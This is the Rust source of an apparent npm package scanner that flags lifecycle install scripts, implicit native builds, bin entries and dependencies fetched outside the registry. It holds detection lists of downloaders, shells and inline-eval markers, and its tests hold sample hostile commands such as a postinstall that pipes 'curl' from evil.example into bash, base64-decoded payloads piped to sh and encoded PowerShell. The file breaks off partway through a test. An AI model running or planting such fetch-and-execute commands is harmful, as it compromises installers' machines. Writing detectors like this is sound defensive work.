//! `package.json`: lifecycle scripts, the implicit `node-gyp rebuild`, `bin` entries and
//! dependencies that bypass the registry.

use std::collections::HashMap;

use serde_json::{Map, Value};

use super::{at_line, clip, file_name, is_nested, join, parent, resolve, MAX_MANIFEST_BYTES};
use crate::archive::PackageTree;
use crate::finding::{Category, Finding, Severity};

/// Scripts npm (and yarn, pnpm, bun) run on every install of the package.
const INSTALL_HOOKS: &[&str] = &["preinstall", "install", "postinstall"];

/// Scripts that run for some installs only, with when.
const GIT_HOOKS: &[(&str, &str)] = &[
    (
        "preprepare",
        "runs when the package is installed from git or a local folder, not for registry installs",
    ),
    (
        "prepare",
        "runs when the package is installed from git or a local folder, not for registry installs",
    ),
    (
        "postprepare",
        "runs when the package is installed from git or a local folder, not for registry installs",
    ),
    (
        "prepack",
        "runs when the package is installed from git (and on npm pack/publish), not for registry installs",
    ),
    (
        "postpack",
        "runs when the package is installed from git (and on npm pack/publish), not for registry installs",
    ),
    (
        "prepublish",
        "runs on npm publish (and, with npm before 5, on a bare local npm install), not for registry installs",
    ),
];

const UNINSTALL_HOOKS: &[&str] = &["preuninstall", "uninstall", "postuninstall"];

pub(super) fn scan(tree: &PackageTree, path: &str, bytes: &[u8], out: &mut Vec<Finding>) {
    let (text, doc) = match parse(path, bytes) {
        Ok(ok) => ok,
        Err(f) => {
            out.push(*f);
            return;
        }
    };
    let lines = key_lines(text);
    let line = |k: &[&str]| {
        lines
            .get(&k.iter().map(|s| s.to_string()).collect::<Vec<_>>())
            .copied()
    };
    let dir = parent(path);
    let scripts = doc.get("scripts").and_then(Value::as_object);
    let script = |name: &str| {
        scripts
            .and_then(|s| s.get(name))
            .and_then(Value::as_str)
            .filter(|s| !s.trim().is_empty())
    };

    let gyp_path = join(dir, "binding.gyp");
    let has_gyp = tree.get(&gyp_path).is_some();
    let gyp_disabled = doc.get("gypfile") == Some(&Value::Bool(false));

    for &hook in INSTALL_HOOKS {
        if let Some(cmd) = script(hook) {
            let a = assess(cmd);
            let severity = if a.critical() {
                Severity::Critical
            } else {
                Severity::High
            };
            let mut message = format!("{hook} script runs on every install of the package");
            if !a.reasons.is_empty() {
                message.push_str(": ");
                message.push_str(&a.summary());
            }
            let mut f = script_finding(
                "manifest.install-script.npm-install",
                severity,
                path,
                hook,
                cmd,
                &a,
                message,
            );
            f = add_files(f, tree, dir, cmd);
            if has_gyp && !gyp_disabled {
                f = f.with("binding_gyp", gyp_path.as_str());
            }
            out.push(at_line(f, line(&["scripts", hook])));
        }
    }
    for &(hook, when) in GIT_HOOKS {
        if let Some(cmd) = script(hook) {
            let a = assess(cmd);
            let severity = if a.critical() {
                Severity::High
            } else {
                Severity::Medium
            };
            let mut message = format!("{hook} script {when}");
            if !a.reasons.is_empty() {
                message.push_str(": ");
                message.push_str(&a.summary());
            }
            let f = script_finding(
                "manifest.install-script.npm-prepare",
                severity,
                path,
                hook,
                cmd,
                &a,
                message,
            );
            let f = add_files(f, tree, dir, cmd);
            out.push(at_line(f, line(&["scripts", hook])));
        }
    }
    for &hook in UNINSTALL_HOOKS {
        if let Some(cmd) = script(hook) {
            let a = assess(cmd);
            let message = format!(
                "{hook} script (npm 7 and later no longer run uninstall scripts; other clients may)"
            );
            let f = script_finding(
                "manifest.install-script.npm-uninstall",
                Severity::Low,
                path,
                hook,
                cmd,
                &a,
                message,
            );
            out.push(at_line(f, line(&["scripts", hook])));
        }
    }

    // npm: no install/preinstall script + binding.gyp + gypfile not false ⇒ `node-gyp rebuild`.
    if has_gyp && !gyp_disabled && script("install").is_none() && script("preinstall").is_none() {
        out.push(
            Finding::new(
                "manifest.install-script.native-build",
                Category::InstallScript,
                Severity::High,
                gyp_path.as_str(),
                "binding.gyp and no install script: npm runs `node-gyp rebuild` at install, \
                 compiling native code (binding.gyp can also run arbitrary build actions)",
            )
            .with("manifest", path)
            .with("command", "node-gyp rebuild"),
        );
    }

    // What the package exposes and pulls in matters for the package itself, not for nested
    // manifests (workspaces, fixtures) that are not installed with it.
    if is_nested(path) {
        return;
    }
    bins(tree, path, &doc, &line, out);
    dependencies(path, &doc, &line, out);
}

/// Parse a manifest; a file that cannot be read gives one finding instead.
fn parse<'b>(path: &str, bytes: &'b [u8]) -> Result<(&'b str, Map<String, Value>), Box<Finding>> {
    let invalid = |why: String| {
        Box::new(Finding::new(
            "manifest.package-json.invalid",
            Category::InstallScript,
            Severity::Low,
            path,
            format!("package.json {why}; its scripts, bin and dependencies were not checked"),
        ))
    };
    if bytes.len() > MAX_MANIFEST_BYTES {
        let mut f = invalid(format!(
            "is {} bytes, over the {} MiB limit for manifests",
            bytes.len(),
            MAX_MANIFEST_BYTES / (1024 * 1024)
        ));
        f.evidence
            .insert("bytes".into(), (bytes.len() as u64).into());
        return Err(f);
    }
    let text = std::str::from_utf8(bytes)
        .map_err(|_| invalid("is not UTF-8".into()))?
        .trim_start_matches('\u{feff}');
    match serde_json::from_str::<Value>(text) {
        Ok(Value::Object(m)) => Ok((text, m)),
        Ok(other) => Err(invalid(format!(
            "is not a JSON object (it is {})",
            match other {
                Value::Array(_) => "an array",
                Value::String(_) => "a string",
                Value::Number(_) => "a number",
                Value::Bool(_) => "a boolean",
                _ => "null",
            }
        ))),
        Err(e) => {
            let mut f = invalid("is not valid JSON".into());
            f.evidence.insert("error".into(), e.to_string().into());
            if e.line() > 0 {
                f.line = Some(e.line() as u32);
            }
            Err(f)
        }
    }
}

fn script_finding(
    rule: &str,
    severity: Severity,
    path: &str,
    hook: &str,
    cmd: &str,
    a: &Assessment,
    message: String,
) -> Finding {
    let mut f = Finding::new(rule, Category::InstallScript, severity, path, message)
        .with("script", hook)
        .with("command", clip(cmd, 500));
    if !a.reasons.is_empty() {
        f = f.with(
            "reasons",
            a.reasons
                .iter()
                .map(|r| Value::from(r.text.as_str()))
                .collect::<Vec<_>>(),
        );
    }
    f
}

/// Files of the package a command names (`node scripts/postinstall.js`), so the reviewer knows
/// what to read next.
fn add_files(f: Finding, tree: &PackageTree, dir: &str, cmd: &str) -> Finding {
    let mut files: Vec<Value> = Vec::new();
    for tok in words(cmd) {
        if !tok.contains('.') && !tok.contains('/') {
            continue;
        }
        if let Some(p) = resolve(dir, tok) {
            if tree.get(&p).is_some() && !files.iter().any(|v| v == p.as_str()) {
                files.push(p.into());
            }
        }
    }
    if files.is_empty() {
        f
    } else {
        f.with("files", files)
    }
}

// ---------------------------------------------------------------------------------------------
// What a script command does

struct Reason {
    text: String,
    critical: bool,
}

#[derive(Default)]
struct Assessment {
    reasons: Vec<Reason>,
}

impl Assessment {
    fn critical(&self) -> bool {
        self.reasons.iter().any(|r| r.critical)
    }
    fn summary(&self) -> String {
        self.reasons
            .iter()
            .map(|r| r.text.as_str())
            .collect::<Vec<_>>()
            .join("; ")
    }
    fn add(&mut self, critical: bool, text: String) {
        if !self.reasons.iter().any(|r| r.text == text) {
            self.reasons.push(Reason { text, critical });
        }
    }
}

/// Words of a shell command: split on whitespace, quotes and shell operators.
fn words(cmd: &str) -> impl Iterator<Item = &str> {
    cmd.split(|c: char| c.is_whitespace() || "\"'`;&|()<>$".contains(c))
        .filter(|w| !w.is_empty())
}

/// A program name without its folder or `.exe`.
fn program(word: &str) -> String {
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let base = base.to_ascii_lowercase();
    base.strip_suffix(".exe").unwrap_or(&base).to_string()
}

const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
    "bitsadmin",
    "certutil",
    "nc",
    "ncat",
    "netcat",
    "aria2c",
    "scp",
    "tftp",
];

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "node",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "iex",
    "invoke-expression",
    "powershell",
    "pwsh",
    "cmd",
];

const INLINE_FLAGS: &[(&str, &[&str])] = &[
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("python", &["-c"]),
    ("python3", &["-c"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
    (
        "powershell",
        &["-command", "-c", "-encodedcommand", "-enc", "-e"],
    ),
    ("pwsh", &["-command", "-c", "-encodedcommand", "-enc", "-e"]),
];

/// Inline-code markers that turn `node -e …` into a download, a process or an evaluation.
const INLINE_DANGER: &[&str] = &[
    "http",
    "fetch(",
    "net.",
    "require('net')",
    "require(\"net\")",
    "dns",
    "child_process",
    "exec(",
    "execSync",
    "spawn",
    "eval(",
    "Function(",
    "Buffer.from",
    "atob(",
    "fromCharCode",
    "urllib",
    "socket",
    "subprocess",
    "os.system",
    "base64",
    "WebClient",
    "DownloadString",
];

fn assess(cmd: &str) -> Assessment {
    let mut a = Assessment::default();
    let lower = cmd.to_ascii_lowercase();
    let ws: Vec<&str> = words(cmd).collect();

    if let Some(d) = ws
        .iter()
        .map(|w| program(w))
        .find(|p| DOWNLOADERS.contains(&p.as_str()))
    {
        a.add(true, format!("fetches from the network ({d})"));
    }
    if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
        a.add(true, "opens a network connection (/dev/tcp)".into());
    }
    for scheme in ["http://", "https://", "ftp://"] {
        if let Some(i) = lower.find(scheme) {
            let url: String = cmd[i..]
                .chars()
                .take_while(|c| !c.is_whitespace() && !"\"'`;|&()<>".contains(*c))
                .collect();
            // `echo See https://…` only prints it.
            let seg = cmd[..i].rfind([';', '&', '|']).map_or(0, |j| j + 1);
            let prints = words(&cmd[seg..i])
                .next()
                .map(program)
                .is_some_and(|p| p == "echo" || p == "printf");
            if prints {
                a.add(false, format!("prints a URL ({})", clip(&url, 120)));
            } else {
                a.add(true, format!("names a URL ({})", clip(&url, 120)));
            }
            break;
        }
    }

    // `… | sh`, `… | node`: whatever came before becomes code.
    let b = cmd.as_bytes();
    for (i, _) in cmd.match_indices('|') {
        let double = b.get(i + 1) == Some(&b'|') || (i > 0 && b[i - 1] == b'|');
        if double {
            continue;
        }
        let rest = &cmd[i + 1..];
        let mut it = words(rest);
        let mut next = it.next().map(program);
        if next.as_deref() == Some("sudo") {
            next = it.next().map(program);
        }
        if let Some(p) = next.filter(|p| SHELLS.contains(&p.as_str())) {
            a.add(true, format!("pipes into a shell or interpreter ({p})"));
        }
    }
    // `sh -c "$(curl …)"`, `bash <(curl …)`.
    if (cmd.contains("$(") || cmd.contains("<(") || cmd.contains('`')) && a.critical() {
        a.add(true, "runs the output of a command as code".into());
    }

    // Inline code.
    for (k, w) in ws.iter().enumerate() {
        let p = program(w);
        let Some((_, flags)) = INLINE_FLAGS.iter().find(|(prog, _)| *prog == p) else {
            continue;
        };
        let Some(flag) = ws.get(k + 1) else { continue };
        if !flags.contains(&flag.to_ascii_lowercase().as_str()) {
            continue;
        }
        let danger = INLINE_DANGER.iter().find(|d| cmd.contains(*d));
        match danger {
            Some(d) => a.add(true, format!("runs inline {p} code using {d}")),
            None => a.add(false, format!("runs inline {p} code ({p} {flag})")),
        }
        if (p == "pwsh" || p == "powershell") && flag.to_ascii_lowercase().starts_with("-e") {
            a.add(true, "runs an encoded PowerShell command".into());
        }
    }

    // Encoded payloads.
    let decoders = [
        ("base64 -d", "base64 -d"),
        ("base64 --decode", "base64 --decode"),
        ("base64 -D", "base64 -D"),
        ("openssl enc -d", "openssl enc -d"),
        ("openssl base64 -d", "openssl base64 -d"),
        ("xxd -r", "xxd -r"),
        ("atob(", "atob()"),
        ("fromCharCode", "String.fromCharCode"),
        ("frombase64string", "FromBase64String"),
    ];
    for (needle, name) in decoders {
        let hit = if needle.chars().any(|c| c.is_ascii_uppercase()) {
            cmd.contains(needle)
        } else {
            lower.contains(needle)
        };
        if hit {
            a.add(true, format!("decodes an encoded payload ({name})"));
        }
    }
    if cmd.contains("Buffer.from") && (cmd.contains("base64") || cmd.contains("'hex'")) {
        a.add(true, "decodes an encoded payload (Buffer.from)".into());
    }
    if cmd.matches("\\x").count() >= 4 || cmd.matches("\\u00").count() >= 4 {
        a.add(true, "contains escaped character codes".into());
    }
    if let Some(run) = longest_encoded_run(cmd) {
        if run >= 100 {
            a.add(true, format!("contains a {run}-character encoded string"));
        }
    }

    // Worth knowing, not alarming.
    if ws
        .iter()
        .any(|w| program(w) == "node-gyp" || program(w) == "cmake-js")
    {
        a.add(false, "builds native code (node-gyp)".into());
    }
    if ws
        .iter()
        .any(|w| program(w) == "prebuild-install" || program(w) == "node-pre-gyp")
    {
        a.add(false, "downloads a prebuilt native binary".into());
    }
    a
}

/// Length of the longest run of base64/hex alphabet characters.
fn longest_encoded_run(s: &str) -> Option<usize> {
    let mut best = 0;
    let mut cur = 0;
    for c in s.chars() {
        if c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '=' {
            cur += 1;
            best = best.max(cur);
        } else {
            cur = 0;
        }
    }
    (best > 0).then_some(best)
}

// ---------------------------------------------------------------------------------------------
// bin

fn bins(
    tree: &PackageTree,
    path: &str,
    doc: &Map<String, Value>,
    line: &dyn Fn(&[&str]) -> Option<u32>,
    out: &mut Vec<Finding>,
) {
    let dir = parent(path);
    let mut entries: Vec<(String, String)> = Vec::new();
    let mut where_line = line(&["bin"]);
    match doc.get("bin") {
        Some(Value::String(p)) => {
            let name = doc
                .get("name")
                .and_then(Value::as_str)
                .map(|n| n.rsplit('/').next().unwrap_or(n).to_string())
                .unwrap_or_default();
            entries.push((name, p.clone()));
        }
        Some(Value::Object(m)) => {
            for (name, p) in m {
                if let Some(p) = p.as_str() {
                    entries.push((name.clone(), p.to_string()));
                }
            }
        }
        _ => {
            // `directories.bin`: every file in that folder becomes a command.
            if let Some(d) = doc
                .get("directories")
                .and_then(|d| d.get("bin"))
                .and_then(Value::as_str)
            {
                where_line = line(&["directories", "bin"]);
                if let Some(bin_dir) = resolve(dir, d) {
                    let prefix = format!("{bin_dir}/");
                    for (p, _) in tree.iter() {
                        if let Some(rest) = p.strip_prefix(&prefix) {
                            let rel = p.strip_prefix(&format!("{dir}/")).unwrap_or(p);
                            entries.push((file_name(rest).to_string(), rel.to_string()));
                        }
                    }
                }
            }
        }
    }
    if entries.is_empty() {
        return;
    }
    let mut commands = Map::new();
    for (name, target) in &entries {
        commands.insert(name.clone(), Value::from(target.as_str()));
        match resolve(dir, target) {
            None => out.push(at_line(
                Finding::new(
                    "manifest.bin.outside-package",
                    Category::InstallScript,
                    Severity::Medium,
                    path,
                    format!(
                        "bin entry `{name}` points outside the package ({})",
                        clip(target, 200)
                    ),
                )
                .with("command", name.as_str())
                .with("target", target.as_str()),
                line(&["bin", name]).or(where_line),
            )),
            Some(p) if tree.get(&p).is_none() => out.push(at_line(
                Finding::new(
                    "manifest.bin.missing",
                    Category::InstallScript,
                    Severity::Medium,
                    path,
                    format!(
                        "bin entry `{name}` names {} which the package does not contain \
                         (created at install time, or broken)",
                        clip(target, 200)
                    ),
                )
                .with("command", name.as_str())
                .with("target", target.as_str()),
                line(&["bin", name]).or(where_line),
            )),
            Some(_) => {}
        }
    }
    let names: Vec<&str> = entries.iter().map(|(n, _)| n.as_str()).collect();
    out.push(at_line(
        Finding::new(
            "manifest.bin.entries",
            Category::InstallScript,
            Severity::Info,
            path,
            format!(
                "installs command{} {} (what `npx` runs)",
                if names.len() == 1 { "" } else { "s" },
                clip(&names.join(", "), 200)
            ),
        )
        .with("commands", commands),
        where_line,
    ));
}

// ---------------------------------------------------------------------------------------------
// Dependencies

/// Where a dependency comes from, when not from the registry.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum Source {
    Url { tls: bool },
    Git { tls: bool, commit: Option<String> },
    Local,
}

/// A git ref that names a commit (7 to 40 hex digits).
pub(crate) fn is_commit(r: &str) -> bool {
    (7..=40).contains(&r.len()) && r.bytes().all(|b| b.is_ascii_hexdigit())
}

/// Classify an npm dependency spec; `None` for registry versions, ranges, tags and aliases.
pub(crate) fn classify_spec(spec: &str) -> Option<Source> {
    let s = spec.trim();
    let lower = s.to_ascii_lowercase();
    let committish = |s: &str| {
        s.split_once('#')
            .map(|(_, r)| r.to_string())
            .filter(|r| is_commit(r))
    };
    if lower.starts_with("git+")
        || lower.starts_with("git://")
        || lower.starts_with("git@")
        || lower.starts_with("ssh://")
    {
        let tls = !(lower.starts_with("git://") || lower.starts_with("git+http://"));
        return Some(Source::Git {
            tls,
            commit: committish(s),
        });
    }
    if lower.starts_with("http://") || lower.starts_with("https://") {
        // A URL ending in `.git` (or with a `#ref`) is a git remote, not a tarball.
        let base = lower.split('#').next().unwrap_or(&lower);
        if base.ends_with(".git") {
            return Some(Source::Git {
                tls: lower.starts_with("https://"),
                commit: committish(s),
            });
        }
        return Some(Source::Url {
            tls: lower.starts_with("https://"),
        });
    }
    for host in ["github:", "gitlab:", "bitbucket:", "gist:"] {
        if lower.starts_with(host) {
            return Some(Source::Git {
                tls: true,
                commit: committish(s),
            });
        }
    }
    if lower.starts_with("file:")
        || lower.starts_with("link:")
        || s.starts_with("./")
        || s.starts_with("../")
        || s.starts_with("~/")
        || s.starts_with('/')
    {
        return Some(Source::Local);
    }
    // `owner/repo[#ref]`: GitHub shorthand.
    if !s.contains(':') && !s.starts_with('@') && !s.contains(char::is_whitespace) {
        let repo = s.split('#').next().unwrap_or(s);
        if let Some((owner, name)) = repo.split_once('/') {
            let ok = |p: &str| {
                !p.is_empty()
                    && p.chars()
                        .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
            };
            if ok(owner) && ok(name) {
                return Some(Source::Git {
                    tls: true,
                    commit: committish(s),
                });
            }
        }
    }
    None
}

/// A finding for a dependency that bypasses the registry (shared with Python's direct URLs).
pub(super) fn dependency_finding(
    path: &str,
    section: &str,
    name: &str,
    spec: &str,
    source: &Source,
    dev: bool,
) -> Finding {
    let spec_c = clip(spec, 300);
    let (rule, category, severity, message) = match source {
        Source::Url { tls } => (
            "manifest.unpinned.dependency-url",
            Category::Unpinned,
            if *tls { Severity::Medium } else { Severity::High },
            if *tls {
                format!("{section} `{name}` is fetched from a URL, not a registry version: its content can change without a version change")
            } else {
                format!("{section} `{name}` is fetched over plain http: anyone on the path can replace it")
            },
        ),
        Source::Git { tls, commit: None } => (
            "manifest.unpinned.dependency-url",
            Category::Unpinned,
            if *tls { Severity::Medium } else { Severity::High },
            format!(
                "{section} `{name}` is fetched from git without a commit id: a branch or tag can move{}",
                if *tls { "" } else { " (and the transport is unencrypted)" }
            ),
        ),
        Source::Git {
            tls,
            commit: Some(c),
        } => (
            "manifest.dependency.git-pinned",
            Category::Unpinned,
            if *tls { Severity::Info } else { Severity::High },
            format!(
                "{section} `{name}` is fetched from git at commit {}{}",
                clip(c, 40),
                if *tls { "" } else { " over an unencrypted transport" }
            ),
        ),
        Source::Local => (
            "manifest.dependency.local-path",
            Category::Unpinned,
            Severity::Low,
            format!("{section} `{name}` is a local path: it resolves against the installer's machine, not the registry"),
        ),
    };
    let mut f = Finding::new(rule, category, severity, path, message)
        .with("dependency", name)
        .with("spec", spec_c)
        .with("section", section);
    if dev && f.severity > Severity::Info {
        f.severity = Severity::Info;
        f.message
            .push_str(" (development dependency: not installed for users)");
    }
    f
}

fn dependencies(
    path: &str,
    doc: &Map<String, Value>,
    line: &dyn Fn(&[&str]) -> Option<u32>,
    out: &mut Vec<Finding>,
) {
    for section in [
        "dependencies",
        "optionalDependencies",
        "peerDependencies",
        "devDependencies",
    ] {
        let Some(deps) = doc.get(section).and_then(Value::as_object) else {
            continue;
        };
        for (name, spec) in deps {
            let Some(spec) = spec.as_str() else { continue };
            if let Some(source) = classify_spec(spec) {
                let f = dependency_finding(
                    path,
                    section,
                    name,
                    spec,
                    &source,
                    section == "devDependencies",
                );
                out.push(at_line(f, line(&[section, name])));
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Key lines

/// Lines (1-based) of object keys at depth one and two (`["scripts", "postinstall"]`).
/// Duplicate keys: the last wins, as in `JSON.parse`. The text is already known to be JSON.
pub(crate) fn key_lines(text: &str) -> HashMap<Vec<String>, u32> {
    enum Frame {
        Obj { key: Option<String>, expect: bool },
        Arr,
    }
    let b = text.as_bytes();
    let mut out = HashMap::new();
    let mut stack: Vec<Frame> = Vec::new();
    let mut line = 1u32;
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\n' => line += 1,
            b'"' => {
                let start = i;
                i += 1;
                while i < b.len() && b[i] != b'"' {
                    if b[i] == b'\\' {
                        i += 1;
                    }
                    i += 1;
                }
                let Some(raw) = text.get(start..(i + 1).min(b.len())) else {
                    break;
                };
                let depth = stack.len();
                let mut prefix: Option<Vec<String>> = (depth <= 2).then(Vec::new);
                if let Some(p) = prefix.as_mut() {
                    for f in stack.iter().take(depth.saturating_sub(1)) {
                        match f {
                            Frame::Obj { key: Some(k), .. } => p.push(k.clone()),
                            _ => {
                                prefix = None;
                                break;
                            }
                        }
                    }
                }
                if let Some(Frame::Obj { key, expect }) = stack.last_mut() {
                    if *expect {
                        let k: String = serde_json::from_str(raw).unwrap_or_default();
                        if let Some(mut p) = prefix {
                            p.push(k.clone());
                            out.insert(p, line);
                        }
                        *key = Some(k);
                        *expect = false;
                    }
                }
            }
            b'{' => stack.push(Frame::Obj {
                key: None,
                expect: true,
            }),
            b'[' => stack.push(Frame::Arr),
            b'}' | b']' => {
                stack.pop();
            }
            b',' => {
                if let Some(Frame::Obj { expect, .. }) = stack.last_mut() {
                    *expect = true;
                }
            }
            _ => {}
        }
        i += 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::scan_manifests;
    use super::super::tests::{rules, tree};
    use super::*;

    fn scan_pkg(json: &str, extra: &[(&str, &[u8])]) -> Vec<Finding> {
        let mut files: Vec<(&str, &[u8])> = vec![("package.json", json.as_bytes())];
        files.extend_from_slice(extra);
        scan_manifests(&tree(&files))
    }

    #[test]
    fn install_hooks_high_and_critical() {
        let f = scan_pkg(
            r#"{
  "name": "x",
  "scripts": {
    "test": "curl https://example.com | sh",
    "build": "tsc",
    "preinstall": "npx only-allow pnpm",
    "postinstall": "curl -s https://evil.example/p.sh | bash"
  }
}"#,
            &[],
        );
        assert_eq!(
            rules(&f),
            [
                ("manifest.install-script.npm-install", Severity::High),
                ("manifest.install-script.npm-install", Severity::Critical),
            ],
            "test/build scripts are not install hooks"
        );
        assert_eq!(f[0].line, Some(6));
        assert_eq!(f[0].evidence["script"], "preinstall");
        assert_eq!(f[1].line, Some(7));
        let reasons = f[1].evidence["reasons"].as_array().unwrap();
        assert!(reasons.iter().any(|r| r.as_str().unwrap().contains("curl")));
        assert!(reasons.iter().any(|r| r.as_str().unwrap().contains("bash")));
    }

    #[test]
    fn assessment_of_commands() {
        let crit = |c: &str| assess(c).critical();
        assert!(crit("wget -qO- http://x/y | sh"));
        assert!(crit("node -e \"require('https').get('https://x')\""));
        assert!(crit("echo aGVsbG8= | base64 -d | sh"));
        assert!(crit("bash -c \"$(curl -fsSL https://x/i.sh)\""));
        assert!(crit("powershell -enc SQBFAFgA"));
        assert!(crit(&format!("node -e \"{}\"", "A".repeat(120))));
        assert!(!crit("node-gyp rebuild"));
        assert!(!crit("prebuild-install || node-gyp rebuild"));
        assert!(!crit("node -e \"try{require('./postinstall')}catch(e){}\""));
        assert!(!crit("node scripts/postinstall.js"));
        assert!(!crit("npx only-allow pnpm"));
        assert!(!crit("husky install || true"));
        assert!(!crit("echo Thanks, see https://example.com/donate"));
        assert!(crit("echo hi && curl https://x.example/a -o a"));
        let a = assess("node -e \"try{require('./postinstall')}catch(e){}\"");
        assert_eq!(a.summary(), "runs inline node code (node -e)");
    }

    #[test]
    fn gyp_case_and_implicit_native_build() {
        // Explicit `node-gyp rebuild`: one install finding, noting the build and binding.gyp.
        let f = scan_pkg(
            r#"{"name":"n","scripts":{"install":"node-gyp rebuild"}}"#,
            &[("binding.gyp", b"{}")],
        );
        assert_eq!(
            rules(&f),
            [("manifest.install-script.npm-install", Severity::High)]
        );
        assert_eq!(f[0].evidence["binding_gyp"], "binding.gyp");
        assert!(f[0].message.contains("native"));
        // Implicit: binding.gyp alone.
        let f = scan_pkg(r#"{"name":"n"}"#, &[("binding.gyp", b"{}")]);
        assert_eq!(
            rules(&f),
            [("manifest.install-script.native-build", Severity::High)]
        );
        assert_eq!(f[0].path, "binding.gyp");
        // gypfile: false disables it; a binding.gyp elsewhere does not count.
        let f = scan_pkg(r#"{"name":"n","gypfile":false}"#, &[("binding.gyp", b"{}")]);
        assert!(f.is_empty(), "{f:?}");
        let f = scan_pkg(r#"{"name":"n"}"#, &[("deps/x/binding.gyp", b"{}")]);
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn prepare_and_uninstall() {
        let f = scan_pkg(
            r#"{"scripts":{"prepare":"husky install","postuninstall":"rm -rf ~/.x","prepublishOnly":"npm test"}}"#,
            &[],
        );
        assert_eq!(
            rules(&f),
            [
                ("manifest.install-script.npm-prepare", Severity::Medium),
                ("manifest.install-script.npm-uninstall", Severity::Low),
            ]
        );
        assert!(f[0].message.contains("git"), "{}", f[0].message);
        let f = scan_pkg(
            r#"{"scripts":{"prepare":"curl https://x.example/a | sh"}}"#,
            &[],
        );
        assert_eq!(
            rules(&f),
            [("manifest.install-script.npm-prepare", Severity::High)]
        );
    }

    #[test]
    fn bins_listed_and_checked() {
        let f = scan_pkg(
            r#"{"name":"@acme/weather-mcp","bin":"./dist/cli.js"}"#,
            &[("dist/cli.js", b"#!/usr/bin/env node\n")],
        );
        assert_eq!(rules(&f), [("manifest.bin.entries", Severity::Info)]);
        assert_eq!(
            f[0].evidence["commands"],
            serde_json::json!({"weather-mcp": "./dist/cli.js"})
        );
        let f = scan_pkg(
            r#"{"name":"x","bin":{"a":"bin/a.js","b":"../../../usr/bin/python3","c":"gone.js"}}"#,
            &[("bin/a.js", b"")],
        );
        assert_eq!(
            rules(&f),
            [
                ("manifest.bin.outside-package", Severity::Medium),
                ("manifest.bin.missing", Severity::Medium),
                ("manifest.bin.entries", Severity::Info),
            ]
        );
        assert_eq!(f[0].line, Some(1));
        let f = scan_pkg(
            r#"{"name":"x","directories":{"bin":"./bin"}}"#,
            &[("bin/tool", b"#!/bin/sh\n"), ("lib/x.js", b"")],
        );
        assert_eq!(rules(&f), [("manifest.bin.entries", Severity::Info)]);
        assert_eq!(
            f[0].evidence["commands"],
            serde_json::json!({"tool": "bin/tool"})
        );
    }

    #[test]
    fn dependency_sources() {
        assert_eq!(classify_spec("^1.2.3"), None);
        assert_eq!(classify_spec("latest"), None);
        assert_eq!(classify_spec("npm:other@^1"), None);
        assert_eq!(classify_spec("1.0.0 - 2.0.0"), None);
        assert_eq!(
            classify_spec("http://x.example/a.tgz"),
            Some(Source::Url { tls: false })
        );
        assert_eq!(
            classify_spec("https://x.example/a.tgz"),
            Some(Source::Url { tls: true })
        );
        assert_eq!(
            classify_spec("github:o/r#v1.0.0"),
            Some(Source::Git {
                tls: true,
                commit: None
            })
        );
        assert_eq!(
            classify_spec("o/r#0123456789abcdef0123456789abcdef01234567"),
            Some(Source::Git {
                tls: true,
                commit: Some("0123456789abcdef0123456789abcdef01234567".into())
            })
        );
        assert_eq!(
            classify_spec("git://github.com/o/r.git"),
            Some(Source::Git {
                tls: false,
                commit: None
            })
        );
        assert_eq!(
            classify_spec("https://github.com/o/r.git#main"),
            Some(Source::Git {
                tls: true,
                commit: None
            })
        );
        assert_eq!(classify_spec("file:../lib"), Some(Source::Local));
        assert_eq!(classify_spec("link:./x"), Some(Source::Local));
    }

    #[test]
    fn dependency_findings() {
        let f = scan_pkg(
            r#"{
  "dependencies": {
    "ok": "^1.0.0",
    "tar": "http://x.example/t.tgz",
    "gh": "user/repo",
    "pinned": "git+https://github.com/o/r.git#0123456789abcdef0123456789abcdef01234567"
  },
  "devDependencies": {"tool": "github:o/tool"}
}"#,
            &[],
        );
        let by = |dep: &str| {
            f.iter()
                .find(|f| f.evidence["dependency"] == dep)
                .map(|f| (f.rule.as_str(), f.severity, f.line))
        };
        assert_eq!(f.len(), 4, "{f:?}");
        assert_eq!(
            by("tar"),
            Some(("manifest.unpinned.dependency-url", Severity::High, Some(4)))
        );
        assert_eq!(
            by("gh"),
            Some((
                "manifest.unpinned.dependency-url",
                Severity::Medium,
                Some(5)
            ))
        );
        assert_eq!(
            by("pinned"),
            Some(("manifest.dependency.git-pinned", Severity::Info, Some(6)))
        );
        assert_eq!(
            by("tool"),
            Some(("manifest.unpinned.dependency-url", Severity::Info, Some(8)))
        );
    }

    #[test]
    fn hostile_json_gives_one_finding() {
        let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
        for (text, why) in [
            ("{\"scripts\": {", "valid JSON"),
            ("[1,2]", "an array"),
            ("\"x\"", "a string"),
            (deep.as_str(), "valid JSON"),
        ] {
            let f = scan_pkg(text, &[]);
            assert_eq!(
                rules(&f),
                [("manifest.package-json.invalid", Severity::Low)],
                "{why}"
            );
            assert!(f[0].message.contains(why), "{}", f[0].message);
        }
        let big = vec![b' '; MAX_MANIFEST_BYTES + 1];
        let f = scan_manifests(&tree(&[("package.json", &big)]));
        assert_eq!(
            rules(&f),
            [("manifest.package-json.invalid", Severity::Low)]
        );
        let f = scan_manifests(&tree(&[("package.json", b"\xff\xfe{}")]));
        assert!(f[0].message.contains("UTF-8"));
        // A byte-order mark is accepted, as npm does.
        let f = scan_pkg("\u{feff}{\"scripts\":{\"install\":\"x\"}}", &[]);
        assert_eq!(
            rules(&f),
            [("manifest.install-script.npm-install", Severity::High)]
        );
    }

    #[test]
    fn nested_manifest_is_softer_and_lists_nothing() {
        let f = scan_manifests(&tree(&[
            ("package.json", br#"{"name":"root"}"#),
            (
                "packages/sub/package.json",
